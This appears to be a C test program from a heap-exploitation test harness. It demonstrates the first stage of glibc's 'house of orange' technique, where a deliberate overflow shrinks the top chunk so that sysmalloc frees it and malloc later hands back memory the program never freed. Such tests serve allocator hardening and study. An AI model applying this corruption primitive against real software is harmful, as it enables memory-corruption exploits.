/* Technique: freeing the old top through sysmalloc (house of orange's
   first stage).

   Goal: malloc returns a chosen address -- the old top chunk, memory
   the program never freed, handed out as a free chunk while the heap
   continues elsewhere.

   How: the top chunk is arranged to start 0xc00 below a page boundary;
   an overflow from the chunk below it shrinks the top size to 0xc01
   (end still page aligned).  malloc (0x1000) does not fit, so sysmalloc
   extends the heap at the real break, which is not where the fake top
   ends, treats it as foreign memory and _int_free ()s the old top as a
   0xbe0 chunk.  malloc (0xbd8) returns it.  */
#include "attack.h"

int
main (void)
{
  attack_init ("sysmalloc_free_old_top: top size shrunk, sysmalloc frees the old top");
  size_t *p = (size_t *) place_before_top (0xc00, 0x18);
  if (!p)
    no_effect ("could not arrange the heap");
  size_t *top = CHUNK (p) + 4;
  void *old_top_mem = top + 2;
  say ("p %p top chunk %p (size %#zx)", p, top, top[1]);
  if (top[1] < 0xc00 + 0x1000)
    no_effect ("the top chunk is too small to shrink (%#zx)", top[1]);
  p[3] = 0xc00 | PREV_INUSE;		/* the overflow: top's size */
  void *big = malloc (0x1000);
  void *q = malloc (0xbd8);
  say ("malloc (0x1000) = %p; malloc (0xbd8) = %p", big, q);
  if (q == old_top_mem && big != old_top_mem)
    reached ("malloc returned the old top %p, never freed, while the heap moved on to %p",
	     q, big);
  no_effect ("malloc returned %p, not the old top %p", q, old_top_mem);
}
